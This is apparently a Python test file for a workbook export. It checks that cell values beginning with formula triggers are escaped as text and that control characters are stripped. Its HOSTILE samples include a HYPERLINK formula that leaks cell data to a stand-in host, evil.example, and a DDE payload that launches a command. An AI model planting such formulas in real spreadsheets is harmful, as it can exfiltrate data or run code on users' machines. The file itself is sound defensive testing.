"""The index workbook holds data, never code: titles, names, notes and reasons that look like
formulas stay text, and characters a workbook cannot hold never crash the export."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
from sqlalchemy import update

from kla_bot.i18n import translator
from kla_bot.models import Evidence, Member, Task
from kla_bot.services import export
from kla_bot.sheet_cells import EXCEL_CELL_LIMIT, cell_value
from tests.coordinators.helpers import AHMAD, RINA, pdf_bytes, put_evidence, seed
from tests.dbs import backend

ID = translator("id")
HOSTILE = {
    "title": "=1+2",
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
    # PostgreSQL cannot store NUL at all (imports refuse it); SQLite may hold it from old data.
    "notes": "\x07bell" + ("nul" if backend() == "postgres" else "\x00nul") + "\x01 @SUM(1+1)",
    "reason": "=cmd|' /C calc'!A0",
    "file": "+62812 lampiran.pdf",
    "agency": "-2+3",
}


def test_cell_value_neutralises_every_trigger() -> None:
    assert [cell_value(v) for v in ("=1", "+1", "-1", "@A1", "\t=1", "\r=1", "ok", "a=b")] == [
        "'=1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "ok", "a=b"]
    assert cell_value("\x01=1+2") == "'=1+2"  # the control character hid the trigger
    assert cell_value(3.5) == 3.5 and cell_value(None) is None
    long = cell_value("x" * 40_000)
    assert isinstance(long, str) and len(long) == EXCEL_CELL_LIMIT and long.endswith("…")


async def test_hostile_data_is_text_in_the_index_workbook(deps: Any, tmp_path: Path) -> None:
    world = await seed(deps)
    ev = await put_evidence(world, "K3-17a", RINA, pdf_bytes("x"), "x.pdf")
    async with deps.db.transaction() as s:
        # Straight into the database: data stored before imports refused such characters.
        await s.execute(update(Task).where(Task.code_key == "K3-17A").values(
            title=HOSTILE["title"], notes=HOSTILE["notes"]))
        await s.execute(update(Member).where(Member.id == world.ids[RINA]).values(
            name=HOSTILE["name"], agency=HOSTILE["agency"]))
        await s.execute(update(Evidence).where(Evidence.id == ev).values(
            state="rejected", review_reason=HOSTILE["reason"], original_name=HOSTILE["file"],
            reviewer_id=world.ids[AHMAD], reviewed_at=deps.clock.now()))
    async with deps.db.transaction() as s:
        data = await export.collect(s, deps.workspace, deps.settings, None, True,
                                    deps.clock.now(), ID)
    result = export.write_archive(data, deps.store, tmp_path / "x.zip", ID)
    with zipfile.ZipFile(result.parts[0]) as zf:
        book = openpyxl.load_workbook(io.BytesIO(zf.read("Indeks Data Dukung KLA.xlsx")))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'=1+2", "'" + HOSTILE["name"], "'-2+3", "'=cmd|' /C calc'!A0",
            "'+62812 lampiran.pdf", "bellnul @SUM(1+1)"} <= texts
    assert not any(ch in text for text in texts for ch in "\x00\x01\x07")
